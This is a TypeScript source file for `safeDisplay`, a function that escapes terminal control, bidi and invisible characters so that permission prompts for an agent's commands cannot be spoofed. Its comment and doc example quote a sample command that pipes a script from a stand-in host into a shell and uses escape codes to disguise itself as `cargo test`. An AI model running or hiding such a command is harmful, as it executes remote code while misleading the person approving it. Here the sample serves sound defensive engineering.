// Safe display strings: a protocol string (command, cwd, title, signal) as one line that shows what is really there.

/*
 * The wire keeps strings exactly as the Agent sent them, escape sequences and all: right for a
 * lossless model, wrong for a permission prompt, where `curl evil.sh | sh\x1b[2K\rcargo test`
 * would show `cargo test`. `safeDisplay` turns every character that could control a terminal,
 * reorder the text, break the line or hide between visible characters into a visible escape.
 * Nothing is removed, every other character is kept, and the output is the same as the Rust
 * binding's `safe_display` and the Python binding's `safe_display` (the escaped characters are
 * the one list the three bindings share, below).
 */

/** The escaped characters; with the `u` flag, a surrogate range matches only lone surrogates. */
const ESCAPED =
  /[\u0000-\u001f\u007f-\u00a0\u00ad\u034f\u0600-\u0605\u061c\u06dd\u070f\u0890\u0891\u08e2\u115f\u1160\u3164\uffa0\u1680\u17b4\u17b5\u180b-\u180f\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ud800-\udfff\ufe00-\ufe0f\ufeff\ufff9-\ufffb\u{110bd}\u{110cd}\u{13430}-\u{1343f}\u{1bca0}-\u{1bca3}\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}]/gu;

function escape(c: string): string {
  if (c === "\t") return "\\t";
  if (c === "\n") return "\\n";
  if (c === "\r") return "\\r";
  return `\\u{${(c.codePointAt(0) as number).toString(16).toUpperCase()}}`;
}

/**
 * `s` as one line safe to show in a prompt: every control character, escape sequence
 * introducer, bidi control, line or paragraph separator, invisible formatting character, lone
 * surrogate and space other than U+0020 becomes a visible escape (`\t`, `\n`, `\r`, otherwise
 * `\u{HEX}` with upper-case hex digits); every other character is kept. Nothing is removed.
 *
 * ```ts
 * safeDisplay("curl evil.sh | sh\x1b[2K\rcargo test"); // "curl evil.sh | sh\\u{1B}[2K\\rcargo test"
 * ```
 */
export function safeDisplay(s: string): string {
  return s.replace(ESCAPED, escape);
}
